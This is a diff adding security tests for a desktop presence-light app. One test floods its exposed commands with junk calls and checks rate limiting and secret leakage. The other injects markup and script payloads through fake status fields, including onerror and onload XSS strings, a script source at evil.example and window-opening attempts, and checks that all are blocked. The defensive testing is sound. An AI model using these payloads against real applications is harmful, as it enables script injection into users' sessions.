@@ -1,0 +1,124 @@
+// The built program, whose window somebody else has taken over: floods and junk through the real door, markup in the page.
+import { expect } from 'vitest'
+import { commandNames } from '../../app/channels.ts'
+import { test } from '../e2e/story.ts'
+
+const CALLS = 1000
+
+test(`a page that asks without end does not stop the light (${CALLS} calls tried)`, async ({
+  startSignedIn,
+  fake,
+  soon,
+}) => {
+  const app = await startSignedIn({ intervalSeconds: 5 })
+  const page = (await app.window()).locator('html')
+  await (await app.window()).getByRole('main').waitFor()
+  const names = commandNames.filter(
+    (name) => !['signOut', 'hideWindow', 'tryDemo', 'pause', 'switchFeature'].includes(name),
+  )
+  const outcome = await page.evaluate(
+    async (_page, { names, calls }) => {
+      const junk: unknown[] = [
+        undefined,
+        null,
+        '1-h',
+        { polluted: 1 },
+        'x'.repeat(10_000),
+        { theme: 'dark' },
+        [[]],
+      ]
+      const asked = Array.from({ length: calls }, (_, at) => {
+        const ask: unknown = Reflect.get(globalThis.window.tally, names[at % names.length] ?? '')
+        return typeof ask === 'function'
+          ? Promise.resolve(Reflect.apply(ask, null, [junk[at % junk.length]]))
+          : null
+      })
+      const settled = await Promise.allSettled(asked)
+      return {
+        refused: settled.filter(({ status }) => status === 'rejected').length,
+        words: [...new Set(settled.map((one) => (one.status === 'rejected' ? String(one.reason) : '')))],
+        answers: JSON.stringify(settled),
+      }
+    },
+    { names, calls: CALLS },
+  )
+  expect(outcome.refused).toBeGreaterThan(CALLS / 5)
+  expect(outcome.words.join('\n')).toContain('asked too often')
+  for (const secret of fake.secrets()) expect(outcome.answers).not.toContain(secret)
+
+  fake.presence = { availability: 'DoNotDisturb', activity: 'Presenting' }
+  await soon(app.light, 20).toBe('presenting')
+  const { openedUrls, errors } = await app.desktop()
+  expect(errors).toEqual([])
+  // Nothing was opened but Microsoft's own pages.
+  for (const url of openedUrls)
+    expect(url).toMatch(/^(?:https:\/\/(?:login\.microsoftonline|entra\.microsoft)\.com\/|file:\/\/)/)
+})
+
+test('nobody can make markup, code or a way out of text in the page', async ({
+  startSignedIn,
+  fake,
+  soon,
+}) => {
+  fake.presence = {
+    availability: '<b>In the clouds</b>',
+    activity: '<img src=x onerror="globalThis.pwned=1">',
+    statusMessage: {
+      message: { content: '<b>bold</b> <script>globalThis.pwned=1</script>1 < 2 <i>', contentType: 'text' },
+    },
+    outOfOfficeSettings: {
+      isOutOfOffice: false,
+      message: '<svg onload="globalThis.pwned=1"></svg><p>Away</p>',
+    },
+  }
+  const app = await startSignedIn()
+  const window = await app.window()
+  await window.getByText('1 <').first().waitFor()
+  await soon(app.tooltip).toContain('<img')
+  const page = window.locator('html')
+  const found = await page.evaluate(async () => {
+    const refused = (act: () => unknown) => {
+      try {
+        act()
+        return false
+      } catch {
+        return true
+      }
+    }
+    // While DevTools evaluates, eval is allowed whatever the policy says (Runtime.evaluate); afterwards it is not.
+    await new Promise((resolve) => setTimeout(resolve))
+    const script = document.createElement('script')
+    return {
+      pwned: 'pwned' in globalThis,
+      markup: document.querySelectorAll('main :is(b, i, script, img[src="x"], svg[onload])').length,
+      innerHtml: refused(() => {
+        document.createElement('p').innerHTML = '<b>bold</b>'
+      }),
+      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried
+      code: refused(() => globalThis.eval('1')) && refused(() => new Function('return 1')),
+      script: refused(() => {
+        script.src = 'https://evil.example/x.js'
+      }),
+      policy: refused(() => Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {})),
+      opened: globalThis.window.open('https://evil.example/') === null,
+    }
+  })
+  expect(found).toEqual({
+    pwned: false,
+    markup: 0,
+    innerHtml: true,
+    code: true,
+    script: true,
+    policy: true,
+    opened: true,
+  })
+  await page.evaluate(() => {
+    const link = document.createElement('a')
+    link.href = 'https://evil.example/'
+    document.body.append(link)
+    link.click()
+  })
+  const { openedUrls, window: shown } = await app.desktop()
+  expect(shown?.url).toMatch(/^app:\/\/tally-light\//)
+  expect(openedUrls.filter((url) => url.includes('evil'))).toEqual([])
+})
